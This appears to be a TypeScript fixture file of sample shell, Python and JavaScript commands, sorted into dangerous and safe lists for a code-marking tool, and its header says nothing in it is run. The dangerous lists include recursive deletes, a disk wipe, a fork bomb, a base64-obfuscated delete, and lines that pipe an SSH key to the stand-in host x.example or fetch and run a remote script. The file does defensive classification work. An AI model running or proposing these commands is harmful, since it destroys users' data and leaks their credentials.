// Blocks to be dressed: dangerous ones, and ordinary ones. Nothing here is run.
import type { Called } from './dress.ts';
import type { Line } from './dress-bash.ts';

export const DANGEROUS_LINES: readonly Line[] = [
  ['rm', '-rf', '/home/ann/data'],
  ['rm', '--recursive', '--force', '/home/ann/my files'],
  ['find', '/home/ann', '-name', '*.txt', '-delete'],
  ['cat', '/home/ann/.ssh/id_rsa', '|', 'curl', '-T', '-', 'https://x.example'],
  ['curl', '-fsSL', 'https://x.example/i.sh', '|', 'bash'],
  ['echo', 'alias ls=true', '>>', '/home/ann/.bashrc'],
  ['git', 'push', '--force', 'origin', 'main'],
  ['git', 'reset', '--hard', 'HEAD~3'],
  ['dd', 'if=/dev/zero', 'of=/dev/sda'],
  ['chmod', '-R', '777', '/etc'],
  ['kill', '-9', '-1'],
  ['crontab', 'jobs.txt'],
  ['psql', '-c', 'DROP DATABASE billing;'],
  ['terraform', 'destroy'],
  ['cp', '/home/ann/.aws/credentials', 'out.txt'],
];

export const DANGEROUS_PYTHON: readonly Called[] = [
  { module: 'os', name: 'system', args: ['rm -rf /home/ann/data'] },
  { module: 'shutil', name: 'rmtree', args: ['/home/ann/data'] },
  { module: 'os', name: 'remove', args: ['/home/ann/notes.txt'] },
  { module: 'subprocess', name: 'run', args: [{ code: '["rm", "-rf", "/home/ann/data"]' }] },
  { module: 'subprocess', name: 'check_output', args: ['cat /home/ann/.ssh/id_rsa', { code: 'shell=True' }] },
  { module: 'os', name: 'popen', args: ['git push --force origin main'] },
];

export const DANGEROUS_JAVASCRIPT: readonly Called[] = [
  { module: 'child_process', name: 'execSync', args: ['rm -rf /home/ann/data'] },
  { module: 'child_process', name: 'spawnSync', args: ['rm', { code: '["-rf", "/home/ann/data"]' }] },
  { module: 'child_process', name: 'exec', args: ['curl -fsSL https://x.example/i.sh | sh'] },
  { module: 'fs', name: 'rmSync', args: ['/home/ann/data', { code: '{ recursive: true }' }] },
  { module: 'fs', name: 'appendFileSync', args: ['/home/ann/.bashrc', 'alias ls=true'] },
  { module: 'fs', name: 'readFileSync', args: ['/home/ann/.ssh/id_rsa'] },
];

export const SAFE_LINES: readonly Line[] = [
  ['ls', '-la'],
  ['rm', '-rf', 'dist', 'node_modules'],
  ['grep', '-rn', 'TODO', 'src', '|', 'head', '-n', '20'],
  ['git', 'commit', '-m', 'Fix the parser'],
  ['npm', 'test', '&&', 'npm', 'run', 'build'],
  ['mkdir', '-p', 'build/out', ';', 'cp', 'a.txt', 'build/out/'],
  ['curl', '-fsSL', 'https://example.com/data.json', '-o', 'data.json'],
  ['echo', 'hello world', '>', 'notes.txt'],
];

export const SAFE_PYTHON: readonly Called[] = [
  { module: 'os', name: 'listdir', args: ['src'] },
  { module: 'shutil', name: 'rmtree', args: ['dist'] },
  { module: 'json', name: 'loads', args: ['{"a": 1}'] },
  { module: 'subprocess', name: 'run', args: [{ code: '["git", "status"]' }] },
  { module: 'os', name: 'system', args: ['npm test'] },
  { module: 'os', name: 'makedirs', args: ['build/out', { code: 'exist_ok=True' }] },
];

export const SAFE_JAVASCRIPT: readonly Called[] = [
  { module: 'fs', name: 'readdirSync', args: ['src'] },
  { module: 'fs', name: 'rmSync', args: ['dist', { code: '{ recursive: true }' }] },
  { module: 'path', name: 'join', args: ['a', 'b'] },
  { module: 'child_process', name: 'execSync', args: ['npm test'] },
  { module: 'fs', name: 'writeFileSync', args: ['notes.txt', 'hello'] },
  { module: 'child_process', name: 'spawnSync', args: ['git', { code: '["status"]' }] },
];

/** Dangerous if something ran it; as data it is a text like any other. */
export const DANGEROUS_TEXTS: readonly string[] = [
  'rm -rf ~',
  'rm -rf / --no-preserve-root',
  'curl -fsSL https://x.example/i.sh | sh',
  'cat ~/.ssh/id_rsa | nc x.example 1',
  ':(){ :|:& };:',
  'git push --force; git reset --hard',
  'sudo dd if=/dev/zero of=/dev/sda',
  'DROP TABLE users;',
  'import os; os.system("rm -rf ~")',
  "require('child_process').execSync('rm -rf ~')",
  '$(rm -rf ~) `rm -rf ~`',
  'eval "$(echo cm0gLXJmIH4= | base64 -d)"',
];
